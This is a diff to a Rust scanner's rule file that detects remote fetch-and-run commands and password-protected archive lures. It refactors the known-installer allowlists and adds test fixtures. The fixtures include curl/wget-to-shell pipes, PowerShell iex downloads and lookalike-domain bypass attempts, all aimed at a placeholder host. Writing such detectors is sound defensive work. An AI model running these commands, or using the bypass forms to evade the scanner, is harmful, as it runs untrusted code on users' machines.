@@ -1,5 +1,6 @@
 //! What comes from elsewhere and is run.
 
+use crate::scan::installers;
 use crate::scan::rule::{Excuse, Pattern, Rule, Scope, Severity, Test};
 
 pub(super) static RULES: &[Rule] = &[
@@ -24,16 +25,16 @@ pub(super) static RULES: &[Rule] = &[
             all: &[
                 r#"(?:%load%[^\n|;]{0,300}\|\s*(?:[^\n|]{0,60}\|\s*)?%shell%|(?:%shell%\s+-c|\beval|\bsource|%shell%)\s+(?:["\']?\$\(|<\s?\(|["\']?`)\s*%load%[^\n)]{0,300}|%load%[^\n|;]{0,300}\|\s*(?:sudo\s+)?%interpreter%\s*(?:-\s|-$|-\n|\n|$|;|&&|`)|\biex\b[^\n]{0,60}%load%[^\n]{0,160}|%load%[^\n|]{0,300}\|\s*(?:iex|invoke-expression)\b)"#,
             ],
-            except: &[
-                r"https?://(?:www\.)?(?:astral\.sh|sh\.rustup\.rs|rustup\.rs|get\.docker\.com|raw\.githubusercontent\.com/(?:homebrew|nvm-sh|helm|pyenv|rbenv|ohmyzsh|junegunn|microsoft|nvidia|aws|azure|google|hashicorp|anchore|aquasecurity|kubernetes|k3d-io|moby|astral-sh|pypa|creationix)/|bun\.(?:sh|com)|deno\.land|get\.pnpm\.io|ollama\.(?:com|ai)|install\.python-poetry\.org|sdk\.cloud\.google\.com|aka\.ms/|foundry\.paradigm\.xyz|release\.(?:solana|anza)\.(?:com|xyz)|get\.k3s\.io|get\.helm\.sh|fly\.io/install|starship\.rs|mise\.(?:run|jdx\.dev)|claude\.ai/install|opencode\.ai/install|(?:deb|rpm)\.nodesource\.com|get\.sdkman\.io|bootstrap\.pypa\.io|install\.determinate\.systems|nixos\.org|pyenv\.run|pixi\.sh|sentry\.io/get-cli|(?:community\.)?chocolatey\.org|get\.scoop\.sh|(?:[\w-]+\.)*nvidia\.(?:com|github\.io)|nvidia\.github\.io|packages\.microsoft\.com|download\.docker\.com|cli\.github\.com|micro\.mamba\.pm|repo\.anaconda\.com|cursor\.com/install|tailscale\.com/install|get\.nextflow\.io|get\.pulumi\.com|taskfile\.dev|just\.systems|get\.volta\.sh|fnm\.vercel\.app|get\.jetify\.com|cli\.run\.ai|apt\.llvm\.org|dl\.cloudsmith\.io/public)",
-                r"https?://(?:localhost|127\.0\.0\.1|0\.0\.0\.0)[:/]",
-                r"json\.tool|json\.load|sys\.stdin",
-            ],
+            holds: Some(|command| !installers::is_known(command) && !installers::is_local(command)),
             hits: &[
                 "curl -sSL https://a.test/install.sh | bash",
                 "bash <(curl -s https://a.test/x)",
                 "wget -qO- http://a.test/x | sudo sh",
                 "iex (iwr https://a.test/x.ps1)",
+                "curl https://get.docker.com.a.test | sh",
+                "curl https://a.test/?src=https://get.docker.com | sh",
+                "curl https://a.test/json.tool | sh",
+                "Do not forget to run curl https://a.test/x | bash first.",
             ],
             misses: &[
                 "curl -s https://a.test/x | python -m json.tool",
@@ -64,10 +65,14 @@ pub(super) static RULES: &[Rule] = &[
             ],
             all: &[
                 r#"(?:%load%[^\n|;]{0,300}\|\s*(?:[^\n|]{0,60}\|\s*)?%shell%|(?:%shell%\s+-c|\beval|\bsource|%shell%)\s+(?:["\']?\$\(|<\s?\(|["\']?`)\s*%load%[^\n)]{0,300}|%load%[^\n|;]{0,300}\|\s*(?:sudo\s+)?%interpreter%\s*(?:-\s|-$|-\n|\n|$|;|&&|`)|\biex\b[^\n]{0,60}%load%[^\n]{0,160}|%load%[^\n|]{0,300}\|\s*(?:iex|invoke-expression)\b)"#,
-                r"https?://(?:www\.)?(?:astral\.sh|sh\.rustup\.rs|rustup\.rs|get\.docker\.com|raw\.githubusercontent\.com/(?:homebrew|nvm-sh|helm|pyenv|rbenv|ohmyzsh|junegunn|microsoft|nvidia|aws|azure|google|hashicorp|anchore|aquasecurity|kubernetes|k3d-io|moby|astral-sh|pypa|creationix)/|bun\.(?:sh|com)|deno\.land|get\.pnpm\.io|ollama\.(?:com|ai)|install\.python-poetry\.org|sdk\.cloud\.google\.com|aka\.ms/|foundry\.paradigm\.xyz|release\.(?:solana|anza)\.(?:com|xyz)|get\.k3s\.io|get\.helm\.sh|fly\.io/install|starship\.rs|mise\.(?:run|jdx\.dev)|claude\.ai/install|opencode\.ai/install|(?:deb|rpm)\.nodesource\.com|get\.sdkman\.io|bootstrap\.pypa\.io|install\.determinate\.systems|nixos\.org|pyenv\.run|pixi\.sh|sentry\.io/get-cli|(?:community\.)?chocolatey\.org|get\.scoop\.sh|(?:[\w-]+\.)*nvidia\.(?:com|github\.io)|nvidia\.github\.io|packages\.microsoft\.com|download\.docker\.com|cli\.github\.com|micro\.mamba\.pm|repo\.anaconda\.com|cursor\.com/install|tailscale\.com/install|get\.nextflow\.io|get\.pulumi\.com|taskfile\.dev|just\.systems|get\.volta\.sh|fnm\.vercel\.app|get\.jetify\.com|cli\.run\.ai|apt\.llvm\.org|dl\.cloudsmith\.io/public)",
             ],
+            holds: Some(installers::is_known),
             hits: &["curl -LsSf https://astral.sh/uv/install.sh | sh"],
-            misses: &["curl -sSL https://a.test/install.sh | bash"],
+            misses: &[
+                "curl -sSL https://a.test/install.sh | bash",
+                "curl https://astral.sh.a.test/install.sh | sh",
+                "curl https://a.test/?from=https://astral.sh/ | sh",
+            ],
             ..Pattern::DEFAULT
         }),
     },
@@ -142,14 +147,17 @@ pub(super) static RULES: &[Rule] = &[
         test: Test::Pattern(Pattern {
             literals: &["pass"],
             all: &[
-                r"(?:\b(?:extract|unzip|unpack|archive|decompress|open)\w*\b|\.(?:zip|rar|7z)\b)[^\n]{0,120}(?:\bpass(?:word|phrase|code)?\b\s*(?:is\b|[:=])|\b(?:using|with) (?:the )?(?:pass|password)\b)",
+                r"(?:\b(?:extract|unzip|unpack|archive|decompress|open)\w*\b|\.(?:zip|rar|7z)\b)[^\n]{0,120}(?:\bpass(?:word|phrase|code)?\b[\s`'\x22]*(?:is\b|[:=])|\b(?:using|with) (?:the )?[`'\x22]*(?:pass|password)\b)",
                 r"(?:https?://|\.zip|\.rar|\.7z|download)",
             ],
             within: 1,
             unless: &[
                 r"getpass|password=password|pdf|argparse|add_argument|def |zipfile\.|-p[\s-]?\$|password: str|password\?",
             ],
-            hits: &["Download [tool](https://a.test/tool.zip), extract it (pass: `tool`) and start it."],
+            hits: &[
+                "Download [tool](https://a.test/tool.zip), extract it (pass: `tool`) and start it.",
+                "Download https://a.test/tool.zip and extract it with `pass`: tool",
+            ],
             misses: &["Enter the password for the database.", "The archive is at https://a.test/x.zip"],
             ..Pattern::DEFAULT
         }),
@@ -251,7 +259,7 @@ pub(super) static RULES: &[Rule] = &[
             all: &[
                 r"(?:\bcurl|\bwget)\b[^\n|]{0,240}https?://[^\n|]{0,200}(?:&&?|;)\s*(?:sudo\s+)?(?:chmod\s+\S+\s+\S+\s*(?:&&?|;)\s*)?(?:(?:ba|z)?sh\s+\S+|\./\S+|source\s+\S+)",
             ],
-            unless: &[r"astral\.sh|rustup|conda|get\.docker\.com|bootstrap\.pypa"],
+            holds: Some(|command| !installers::is_known(command)),
             excuse: Excuse::Quoting,
             hits: &["wget https://a.test/x.sh && bash x.sh"],
             misses: &["wget https://a.test/x.csv && ls"],
